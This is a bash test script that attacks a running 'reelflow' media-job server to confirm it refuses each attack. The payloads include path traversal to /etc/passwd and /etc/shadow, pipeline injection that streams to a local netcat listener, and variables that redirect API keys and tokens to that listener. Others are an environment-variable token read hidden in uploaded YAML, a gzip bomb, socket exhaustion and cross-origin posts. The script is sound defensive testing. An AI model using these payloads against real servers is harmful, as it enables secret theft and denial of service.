#!/usr/bin/env bash
# Attacks on a live `reelflow serve` by someone who holds its API token but is not
# trusted with the machine (docs/service.md, "Security"). Every attack must be
# refused, and the server must still answer at the end.
#
#   tests/security/attack.sh http://127.0.0.1:8080 TOKEN [--only http|graph]
#
# "http" attacks the HTTP API itself; "graph" submits graphs that try to escape
# through their variables or an upload (refused by the graph loader's and the
# validator's checks, docs/security.md). Needs bash, curl, gzip, and nc
# (netcat-openbsd) for the listener the graph attacks point at.
#
# A harness that planted files may name them (tests/service/attack_script_test.cpp):
#   ATTACK_FILE_JOB, ATTACK_FILE_NAME  a finished job and one of its outputs (a regular file)
#   ATTACK_LINK_NAME                   an output of that job that is a symlink out of its dir
#
# Prints one line per attack: "refused: <attack>", "GOT THROUGH: <attack>", or
# "INCONCLUSIVE: <attack> (<why>)" when this server cannot tell (e.g. a graph it does
# not allow); then "<n> attacks tried, <m> refused" and "server alive" (or "SERVER
# DOWN"). Exits 0 only when every attack was refused and the server is alive.
set -uo pipefail

if (($# < 2)); then
  echo "usage: $0 BASE_URL TOKEN [--only http|graph]" >&2
  exit 2
fi
BASE=${1%/}
TOKEN=$2
ONLY=all
if (($# >= 4)) && [[ $3 == --only ]]; then ONLY=$4; fi
HOSTPORT=${BASE#http://}
HOST=${HOSTPORT%:*}
PORT=${HOSTPORT##*:}

TMP=$(mktemp -d)
LISTENER_PID=""
PROBE_JOBS=()
tried=0
refused=0

cleanup() {
  [[ -n $LISTENER_PID ]] && kill "$LISTENER_PID" 2>/dev/null
  rm -rf "$TMP"
}
trap cleanup EXIT

# --- helpers ---------------------------------------------------------------------

verdict() {  # verdict NAME refused|through [why]
  ((tried++))
  case $2 in
    refused) ((refused++)); echo "refused: $1" ;;
    through) echo "GOT THROUGH: $1${3:+ ($3)}" ;;
    *) echo "INCONCLUSIVE: $1${3:+ ($3)}" ;;
  esac
}

# call METHOD PATH [curl args...]: prints the status code; the body is in $TMP/body,
# the headers in $TMP/headers.
call() {
  local method=$1 path=$2
  shift 2
  : >"$TMP/body"
  : >"$TMP/headers"
  curl -s -X "$method" -o "$TMP/body" -D "$TMP/headers" -w '%{http_code}' --max-time 30 \
       -H "Authorization: Bearer $TOKEN" "$@" "$BASE$path"
}
anon() {  # like call, without the token
  local method=$1 path=$2
  shift 2
  : >"$TMP/body"
  : >"$TMP/headers"
  curl -s -X "$method" -o "$TMP/body" -D "$TMP/headers" -w '%{http_code}' --max-time 30 "$@" "$BASE$path"
}
header() { grep -i "^$1:" "$TMP/headers" | head -1 | cut -d' ' -f2- | tr -d '\r'; }
json_field() { grep -o "\"$1\":\"[^\"]*\"" "$TMP/body" | head -1 | cut -d'"' -f4; }
alive() { [[ $(curl -s -o /dev/null -w '%{http_code}' --max-time 5 "$BASE/healthz") == 200 ]]; }

# submit JSON: the status goes to $SUBMITTED; a job it made is remembered, to be
# cancelled and deleted by forget_jobs. (Not in $(...): the list must survive.)
SUBMITTED=""
submit() {
  SUBMITTED=$(call POST /api/v1/jobs -H 'Content-Type: application/json' --data-binary "$1")
  if [[ $SUBMITTED == 201 ]]; then PROBE_JOBS+=("$(json_field id)"); fi
}
# submit_batch JSON: like submit, for POST /api/v1/batches; every job it made is remembered.
submit_batch() {
  SUBMITTED=$(call POST /api/v1/batches -H 'Content-Type: application/json' --data-binary "$1")
  if [[ $SUBMITTED == 201 ]]; then
    local id
    for id in $(grep -o '"jobs":\[[^]]*\]' "$TMP/body" | grep -o '[0-9a-f]\{27\}'); do PROBE_JOBS+=("$id"); done
  fi
}
forget_jobs() {
  local id
  for id in "${PROBE_JOBS[@]}"; do
    call POST "/api/v1/jobs/$id/cancel" >/dev/null
    for _ in 1 2 3 4 5 6 7 8 9 10; do
      [[ $(call DELETE "/api/v1/jobs/$id") == 409 ]] || break
      sleep 1
    done
  done
  PROBE_JOBS=()
}

# --- the HTTP API ----------------------------------------------------------------

http_attacks() {
  # A job that stays queued or running for the length of these attacks.
  local job=""
  submit '{"graph":"live-shot-detect","variables":{"duration_s":3600}}'
  if [[ $SUBMITTED == 201 ]]; then job=${PROBE_JOBS[-1]}; fi
  if [[ -z $job ]]; then
    call GET '/api/v1/jobs?state=running&limit=1' >/dev/null
    job=$(json_field id)
  fi

  # 1. A cursor Redis cannot parse killed the process.
  if [[ -z $job ]]; then
    verdict "SSE cursor that is not a stream id" inconclusive "no job to watch"
  else
    local code1 code2
    code1=$(call GET "/api/v1/jobs/$job/events?after=garbage" --max-time 5)
    code2=$(call GET "/api/v1/jobs/$job/events" -H 'Last-Event-ID: 1-2-3' --max-time 5)
    if [[ $code1 == 400 && $code2 == 400 ]] && alive; then
      verdict "SSE cursor that is not a stream id" refused
    else
      verdict "SSE cursor that is not a stream id" through "answers $code1 $code2"
    fi
  fi

  # 2. CSRF: the cookie must come from the server (HttpOnly, SameSite=Strict), and a
  # change made on a cookie needs this server's Origin and a JSON body.
  local cookie="reelflow_token=$TOKEN"
  local code
  code=$(anon POST /api/v1/session -H 'Content-Type: application/json' -H "Origin: $BASE" \
              --data-binary "{\"token\":\"$TOKEN\"}")
  local set_cookie
  set_cookie=$(header Set-Cookie)
  if [[ $code == 204 && $set_cookie == reelflow_session=*HttpOnly* && $set_cookie == *SameSite=Strict* ]]; then
    cookie=${set_cookie%%;*}
    verdict "session cookie readable by page scripts" refused
  else
    verdict "session cookie readable by page scripts" through "sign-in answers $code"
  fi
  code=$(anon POST /api/v1/jobs -H "Cookie: $cookie" -H 'Origin: http://127.0.0.1:1' -H 'Content-Type: text/plain' \
              --data-binary '{"graph":"no-such-graph"}')
  [[ $code == 401 || $code == 403 || $code == 415 ]] && verdict "cross-site form post with the cookie" refused \
    || verdict "cross-site form post with the cookie" through "answers $code"
  code=$(anon POST /api/v1/jobs -H "Cookie: $cookie" -H 'Content-Type: application/json' \
              --data-binary '{"graph":"no-such-graph"}')
  [[ $code == 401 || $code == 403 ]] && verdict "cookie post without an Origin" refused \
    || verdict "cookie post without an Origin" through "answers $code"
  code=$(call POST /api/v1/jobs -H 'Content-Type: text/plain' --data-binary '{"graph":"no-such-graph"}')
  [[ $code == 415 ]] && verdict "text/plain body" refused || verdict "text/plain body" through "answers $code"

  # 3. Idle event streams took every request thread.
  if [[ -z $job ]]; then
    verdict "500 idle event streams starve the API" inconclusive "no job to watch"
  else
    ulimit -n 4096 2>/dev/null
    local fds=() fd i
    for ((i = 0; i < 500; i++)); do
      exec {fd}<>"/dev/tcp/$HOST/$PORT" || break
      printf 'GET /api/v1/jobs/%s/events HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n' \
             "$job" "$HOSTPORT" "$TOKEN" >&"$fd"
      fds+=("$fd")
    done
    # Until the server says it serves them all (one that does not count them: 5 s).
    local open
    for ((i = 0; i < 60; i++)); do
      open=$(curl -s --max-time 2 -H "Authorization: Bearer $TOKEN" "$BASE/metrics" |
             sed -n 's/^reelflow_event_streams \([0-9]*\)$/\1/p')
      [[ -z $open ]] && { sleep 5; break; }
      ((open >= 500)) && break
      sleep 0.5
    done
    local took
    took=$(curl -s -o /dev/null -w '%{http_code} %{time_total}' --max-time 5 "$BASE/healthz")
    for fd in "${fds[@]}"; do exec {fd}>&-; done
    if [[ ${#fds[@]} == 500 && ${took%% *} == 200 && $(awk -v t="${took#* }" 'BEGIN { print (t < 1.0) }') == 1 ]]; then
      verdict "500 idle event streams starve the API" refused
    else
      verdict "500 idle event streams starve the API" through "/healthz: ${took:-no answer} with ${#fds[@]} streams"
    fi
  fi

  # 4. Bodies past --max-body: chunked, and compressed.
  local sent
  sent=$(head -c $((300 << 20)) /dev/zero | tr '\0' ' ' |
         curl -s -o /dev/null -w '%{http_code} %{size_upload}' --max-time 60 -X POST -T - \
              -H "Authorization: Bearer $TOKEN" -H 'Content-Type: application/json' -H 'Expect:' "$BASE/api/v1/jobs")
  if [[ ${sent%% *} == 413 && ${sent#* } -lt $((64 << 20)) ]]; then
    verdict "300 MiB chunked body" refused
  else
    verdict "300 MiB chunked body" through "answers ${sent%% *} after ${sent#* } bytes"
  fi
  { printf '{"graph":"no-such-graph"'; head -c $((64 << 20)) /dev/zero | tr '\0' ' '; printf '}'; } | gzip -c > "$TMP/bomb.gz"
  code=$(call POST /api/v1/jobs -H 'Content-Type: application/json' -H 'Content-Encoding: gzip' --data-binary "@$TMP/bomb.gz")
  [[ $code == 413 ]] && verdict "gzip body that inflates to 64 MiB" refused \
    || verdict "gzip body that inflates to 64 MiB" through "answers $code"

  # 5. Downloads: paths out of the job's dir, links in it.
  local target=${ATTACK_FILE_JOB:-${job:-0}}
  code=$(call GET "/api/v1/jobs/$target/outputs/../../../../../../etc/passwd" --path-as-is)
  local code2
  code2=$(call GET "/api/v1/jobs/$target/outputs/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd")
  [[ $code == 404 && $code2 == 404 ]] && verdict "download path traversal" refused \
    || verdict "download path traversal" through "answers $code $code2"
  if [[ -n ${ATTACK_LINK_NAME:-} && -n ${ATTACK_FILE_JOB:-} ]]; then
    code=$(call GET "/api/v1/jobs/$ATTACK_FILE_JOB/outputs/$ATTACK_LINK_NAME")
    [[ $code == 404 ]] && verdict "symlink among a job's outputs" refused \
      || verdict "symlink among a job's outputs" through "answers $code"
  fi

  # 6. Ranges: one per request, 416 with the size for one outside the file.
  local file_job=${ATTACK_FILE_JOB:-} file_name=${ATTACK_FILE_NAME:-}
  if [[ -z $file_job ]]; then
    call GET '/api/v1/jobs?state=succeeded&limit=1' >/dev/null
    file_job=$(json_field id)
    file_name=$(grep -o '"outputs":\["[^"]*"' "$TMP/body" | head -1 | cut -d'"' -f4)
  fi
  if [[ -z $file_job || -z $file_name ]]; then
    verdict "multi-range amplification" inconclusive "no finished job with outputs"
  else
    local url="/api/v1/jobs/$file_job/outputs/$file_name"
    call GET "$url" >/dev/null
    cp "$TMP/body" "$TMP/whole"
    local size
    size=$(stat -c %s "$TMP/whole")
    local many="bytes=0-"
    for ((i = 0; i < 300; i++)); do many+=",0-"; done
    code=$(call GET "$url" -H "Range: $many")
    if [[ $code == 416 && $(stat -c %s "$TMP/body") -lt 1000 ]]; then
      verdict "multi-range amplification" refused
    else
      verdict "multi-range amplification" through "answers $code with $(stat -c %s "$TMP/body") bytes"
    fi
    code=$(call GET "$url" -H "Range: bytes=$size-")
    [[ $code == 416 && $(header Content-Range) == "bytes */$size" ]] && verdict "range past the end" refused \
      || verdict "range past the end" through "answers $code, Content-Range '$(header Content-Range)'"
    code=$(call GET "$url" -H "Range: bytes=1-10")
    if [[ $code == 206 ]] && cmp -s "$TMP/body" <(tail -c +2 "$TMP/whole" | head -c 10); then
      verdict "range answered with other bytes" refused
    else
      verdict "range answered with other bytes" through "answers $code"
    fi
  fi

  # 7. Smaller ones: echoes, bounds, what an unauthenticated client learns.
  local topic
  topic=$(head -c 60000 /dev/zero | tr '\0' 'x')
  submit "{\"graph\":\"short-video\",\"variables\":{\"topic\":\"$topic\"}}"
  if [[ $SUBMITTED == 400 ]]; then
    verdict "listing echoes 60 kB variables" refused  # the graph bounds the topic: nothing that long is queued
  elif [[ $SUBMITTED != 201 ]]; then
    verdict "listing echoes 60 kB variables" inconclusive "short-video answered $SUBMITTED"
  else
    call GET '/api/v1/jobs?limit=20' >/dev/null
    [[ $(stat -c %s "$TMP/body") -lt 30000 ]] && verdict "listing echoes 60 kB variables" refused \
      || verdict "listing echoes 60 kB variables" through "$(stat -c %s "$TMP/body") bytes"
  fi
  topic=$(head -c 70000 /dev/zero | tr '\0' 'x')
  submit "{\"graph\":\"short-video\",\"variables\":{\"topic\":\"$topic\"}}"
  code=$SUBMITTED
  [[ $code == 400 ]] && verdict "70 kB variable value" refused || verdict "70 kB variable value" through "answers $code"
  anon GET /healthz >/dev/null
  [[ $(cat "$TMP/body") == '{"status":"ok"}' ]] && verdict "health says more than ok" refused \
    || verdict "health says more than ok" through "$(head -c 100 "$TMP/body")"
  anon GET / >/dev/null
  if [[ $(header Content-Security-Policy) == *"default-src 'self'"* && $(header X-Frame-Options) == DENY &&
        $(header X-Content-Type-Options) == nosniff && $(header Referrer-Policy) == no-referrer ]] &&
     ! grep -q '<script>' "$TMP/body"; then
    verdict "page without CSP, frame and sniffing protection" refused
  else
    verdict "page without CSP, frame and sniffing protection" through
  fi
  code=$(anon GET /app.js)
  [[ $code == 200 ]] && ! grep -q 'document.cookie' "$TMP/body" && verdict "page script handles the token cookie" refused \
    || verdict "page script handles the token cookie" through "app.js answers $code"

  # 8. Deleting batches: ids that are not ids, paths that leave the route, a batch
  # with a job still to run, and one without the token or from another origin.
  local bad
  for bad in '..%2F..%2Fjobs' 'ABCDEF' "$(head -c 65 /dev/zero | tr '\0' 'a')" '0123abcd%00' '0123abcd/jobs'; do
    code=$(call DELETE "/api/v1/batches/$bad")
    [[ $code == 404 ]] && verdict "DELETE batch with the id '${bad:0:20}'" refused \
      || verdict "DELETE batch with the id '${bad:0:20}'" through "answers $code"
  done
  if [[ -n $job ]]; then
    code=$(call DELETE "/api/v1/batches/../jobs/$job" --path-as-is)
    local still
    still=$(call GET "/api/v1/jobs/$job")
    [[ $code == 404 && $still == 200 ]] && verdict "DELETE batch path that climbs to a job" refused \
      || verdict "DELETE batch path that climbs to a job" through "answers $code, the job $still"
  fi
  submit_batch '{"graph":"short-video","topics":["Coral reefs"],"variables":{"seconds":"5"}}'
  if [[ $SUBMITTED != 201 ]]; then
    verdict "DELETE batch with a job to run" inconclusive "a batch answers $SUBMITTED"
  else
    local batch batch_job
    batch=$(json_field id)
    batch_job=${PROBE_JOBS[-1]}
    code=$(call DELETE "/api/v1/batches/$batch")
    local kept
    kept=$(call GET "/api/v1/jobs/$batch_job")
    [[ $code == 409 && $kept == 200 ]] && verdict "DELETE batch with a job to run" refused \
      || verdict "DELETE batch with a job to run" through "answers $code, its job $kept"
    code=$(anon DELETE "/api/v1/batches/$batch")
    [[ $code == 401 ]] && verdict "DELETE batch without the token" refused \
      || verdict "DELETE batch without the token" through "answers $code"
    code=$(call DELETE "/api/v1/batches/$batch" -H 'Origin: http://evil.example')
    [[ $code == 403 ]] && verdict "DELETE batch from another origin" refused \
      || verdict "DELETE batch from another origin" through "answers $code"
    forget_jobs
    code=$(call DELETE "/api/v1/batches/$batch")
    [[ $code == 204 && $(call GET "/api/v1/batches/$batch") == 404 ]] && verdict "a deleted batch leaves its record behind" refused \
      || verdict "a deleted batch leaves its record behind" through "answers $code"
  fi
  # A batch body past --max-body (1 MiB): refused before it is read whole.
  head -c 2000000 /dev/zero | tr '\0' 'x' | sed 's/^/{"graph":"short-video","topics":["/; s/$/"]}/' >"$TMP/big_batch"
  code=$(call POST /api/v1/batches -H 'Content-Type: application/json' --data-binary @"$TMP/big_batch")
  [[ $code == 413 ]] && alive && verdict "oversized batch body" refused \
    || verdict "oversized batch body" through "answers $code"

  forget_jobs
}

# --- graphs that try to escape (the framework refuses them) ----------------------

start_listener() {
  command -v nc >/dev/null || { echo "note: no nc (netcat-openbsd): the listener is not checked" >&2; return 1; }
  local p
  for _ in 1 2 3 4 5 6 7 8 9 10; do
    p=$((20000 + RANDOM % 40000))
    nc -z 127.0.0.1 "$p" 2>/dev/null && continue
    nc -lk 127.0.0.1 "$p" > "$TMP/listener" 2>/dev/null &
    LISTENER_PID=$!
    sleep 0.3
    kill -0 "$LISTENER_PID" 2>/dev/null && { LISTEN_PORT=$p; return 0; }
  done
  return 1
}

# graph_attack NAME CONTROL_JSON ATTACK_JSON: the control (the same graph, harmless
# variables) must be accepted for the refusal to mean anything.
graph_attack() {
  local name=$1 control=$2 attack=$3 code
  submit "$control"
  code=$SUBMITTED
  forget_jobs
  if [[ $code != 201 ]]; then
    verdict "$name" inconclusive "a harmless job of the same graph answers $code: $(head -c 200 "$TMP/body")"
    return
  fi
  submit "$attack"
  code=$SUBMITTED
  forget_jobs
  sleep 1
  if [[ $code != 400 ]]; then
    verdict "$name" through "answers $code"
  elif [[ -s $TMP/listener ]]; then
    verdict "$name" through "the listener on 127.0.0.1:$LISTEN_PORT received data"
  else
    verdict "$name" refused
  fi
}

# batch_attack NAME CONTROL_JSON ATTACK_JSON: graph_attack for POST /api/v1/batches; a
# refused batch must also have queued none of its jobs.
batch_attack() {
  local name=$1 control=$2 attack=$3 code before after
  submit_batch "$control"
  code=$SUBMITTED
  forget_jobs
  if [[ $code != 201 ]]; then
    verdict "$name" inconclusive "a harmless batch of the same graph answers $code: $(head -c 200 "$TMP/body")"
    return
  fi
  call GET '/api/v1/jobs?limit=1000' >/dev/null
  before=$(grep -o '"id":"' "$TMP/body" | wc -l)
  submit_batch "$attack"
  code=$SUBMITTED
  forget_jobs
  call GET '/api/v1/jobs?limit=1000' >/dev/null
  after=$(grep -o '"id":"' "$TMP/body" | wc -l)
  if [[ $code != 400 ]]; then
    verdict "$name" through "answers $code"
  elif [[ $after != "$before" ]]; then
    verdict "$name" through "jobs were queued: $before before, $after after"
  else
    verdict "$name" refused
  fi
}

# Whether a refusal tells an existing file from a missing one: the answers to two
# paths must differ only by the path itself.
existence_oracle() {
  local a b
  submit '{"graph":"shot-detect","variables":{"video":"/etc/hostname"}}'
  a=$(sed 's#/etc/hostname#PATH#g' "$TMP/body")
  forget_jobs
  submit '{"graph":"shot-detect","variables":{"video":"/no/such/file"}}'
  b=$(sed 's#/no/such/file#PATH#g' "$TMP/body")
  forget_jobs
  if [[ $SUBMITTED == 201 ]]; then
    verdict "existence oracle through a path variable" through "a job may name a path"
  elif [[ $a == "$b" ]]; then
    verdict "existence oracle through a path variable" refused
  else
    verdict "existence oracle through a path variable" through "the answers differ"
  fi
}

# Whether an uploaded graph's refused sub-graph tells an existing file from a missing
# one: the answers for a graph the server has and for none must differ only by the name.
upload_include_oracle() {
  local a b
  submit "{\"graph_yaml\":\"${1//%s/short-video.yaml}\"}"
  a=$(sed 's#short-video\.yaml#NAME#g' "$TMP/body")
  forget_jobs
  submit "{\"graph_yaml\":\"${1//%s/no-such-graph.yaml}\"}"
  b=$(sed 's#no-such-graph\.yaml#NAME#g' "$TMP/body")
  forget_jobs
  if [[ $SUBMITTED == 201 ]]; then
    verdict "existence oracle through an uploaded sub-graph" through "an upload may name a file"
  elif [[ $a == "$b" ]]; then
    verdict "existence oracle through an uploaded sub-graph" refused
  else
    verdict "existence oracle through an uploaded sub-graph" through "the answers differ"
  fi
}

graph_attacks() {
  LISTEN_PORT=9
  start_listener
  local P=$LISTEN_PORT
  graph_attack "pipeline injection through a variable" \
    '{"graph":"live-shot-detect","variables":{"duration_s":"2"}}' \
    "{\"graph\":\"live-shot-detect\",\"variables\":{\"duration_s\":\"10 ! fakesink videotestsrc num-buffers=10 ! tcpclientsink host=127.0.0.1 port=$P\"}}"
  graph_attack "API key sent to another base URL" \
    '{"graph":"short-video-openai"}' \
    "{\"graph\":\"short-video-openai\",\"variables\":{\"openai_base_url\":\"http://127.0.0.1:$P\"}}"
  graph_attack "photo search key sent to another URL" \
    '{"graph":"short-video-openai"}' \
    "{\"graph\":\"short-video-openai\",\"variables\":{\"photo_search_url\":\"http://127.0.0.1:$P/search\"}}"
  graph_attack "upload token sent to another URL" \
    '{"graph":"short-video-openai"}' \
    "{\"graph\":\"short-video-openai\",\"variables\":{\"upload_url\":\"http://127.0.0.1:$P/dav\"}}"
  graph_attack "a job sets a path the graph keeps for its runner" \
    '{"graph":"shot-detect"}' \
    '{"graph":"shot-detect","variables":{"video":"/etc/shadow"}}'
  graph_attack "a job points the live source at another host" \
    '{"graph":"live-hls","variables":{"duration_s":"1"}}' \
    "{\"graph\":\"live-hls\",\"variables\":{\"source\":\"rtmp://127.0.0.1:$P/live\",\"kind\":\"rtmp\"}}"
  graph_attack "pipeline syntax through a number" \
    '{"graph":"live-shot-detect","variables":{"duration_s":"2"}}' \
    '{"graph":"live-shot-detect","variables":{"duration_s":"1e3 ! filesink location=/tmp/x"}}'
  existence_oracle
  graph_attack "voice path traversal" \
    '{"graph":"short-video","variables":{"voice":"en"}}' \
    '{"graph":"short-video","variables":{"voice":"../../../../etc/passwd"}}'
  # A sub-graph's variables (here the part's output file name) are the including graph's to set.
  graph_attack "a job sets a variable of a sub-graph" \
    '{"graph":"two-aspects","variables":{"seconds":"5"}}' \
    '{"graph":"two-aspects","variables":{"output":"../../../../tmp/owned.mp4"}}'
  # Batches (POST /api/v1/batches): each topic's job is held to a single job's rules.
  local long_topic
  long_topic=$(head -c 201 /dev/zero | tr '\0' 'x')
  batch_attack "a batch topic over the graph's own bound" \
    '{"graph":"short-video","topics":["Coral reefs"],"variables":{"seconds":"5"}}' \
    "{\"graph\":\"short-video\",\"topics\":[\"Coral reefs\",\"$long_topic\"],\"variables\":{\"seconds\":\"5\"}}"
  batch_attack "a batch sends the API key to another base URL" \
    '{"graph":"short-video-openai","topics":["Coral reefs"]}' \
    "{\"graph\":\"short-video-openai\",\"topics\":[\"Coral reefs\"],\"variables\":{\"openai_base_url\":\"http://127.0.0.1:$P\"}}"
  batch_attack "a batch of more topics than its bound" \
    '{"graph":"short-video","topics":["Coral reefs"],"variables":{"seconds":"5"}}' \
    "{\"graph\":\"short-video\",\"topics\":[$(printf '"t",%.0s' $(seq 1 100))\"t\"],\"variables\":{\"seconds\":\"5\"}}"
  graph_attack "a job redoes a scene number past its bound" \
    '{"graph":"short-video","variables":{"seconds":"5"},"redo":{"scenes":[2]}}' \
    '{"graph":"short-video","variables":{"seconds":"5"},"redo":{"scenes":[100000],"take":1}}'
  call GET /api/v1/graphs >/dev/null
  if grep -q '"upload_allowed":true' "$TMP/body"; then
    local graph='reelflow: 1\nname: probe\nstages:\n  - id: %s\n    type: gst_launch\n    params:\n      pipeline: \"videotestsrc num-buffers=5 ! video/x-raw,width=64,height=48 ! x264enc\"\n      mux: mp4\n      output: probe.mp4\n'
    local long_id
    long_id=$(head -c 300 /dev/zero | tr '\0' 'a')
    graph_attack "uploaded graph with a 300-character stage id" \
      "{\"graph_yaml\":\"${graph//%s/probe}\"}" "{\"graph_yaml\":\"${graph//%s/$long_id}\"}"
    graph_attack "uploaded graph with a key written twice" \
      "{\"graph_yaml\":\"${graph//%s/probe}\"}" "{\"graph_yaml\":\"${graph//%s/probe}    timeout: 1s\\n    timeout: 5m\\n\"}"
    # "\x24" is "$" once YAML reads it: a text search for "${env:" would miss it.
    local reads_env=${graph//%s/probe} env_name='\"\\x24{env:REELFLOW_API_TOKEN}.mp4\"'
    reads_env=${reads_env//probe.mp4/"$env_name"}
    graph_attack "uploaded graph that reads the server's environment" \
      "{\"graph_yaml\":\"${graph//%s/probe}\"}" "{\"graph_yaml\":\"$reads_env\"}"
    # type: graph would read a file by name: an upload may not use it at all.
    local includes='reelflow: 1\nname: probe\nstages:\n  - id: p\n    type: graph\n    params: { file: %s }\n'
    graph_attack "uploaded graph that includes a file by name" \
      "{\"graph_yaml\":\"${graph//%s/probe}\"}" "{\"graph_yaml\":\"${includes//%s/short-video.yaml}\"}"
    upload_include_oracle "$includes"
  else
    echo "note: uploads are off on this server: the upload attack is not tried" >&2
  fi
}

case $ONLY in
  http) http_attacks ;;
  graph) graph_attacks ;;
  all) http_attacks; graph_attacks ;;
  *) echo "--only takes http or graph" >&2; exit 2 ;;
esac

echo "$tried attacks tried, $refused refused"
if alive; then
  echo "server alive"
else
  echo "SERVER DOWN"
  exit 1
fi
((tried == refused))
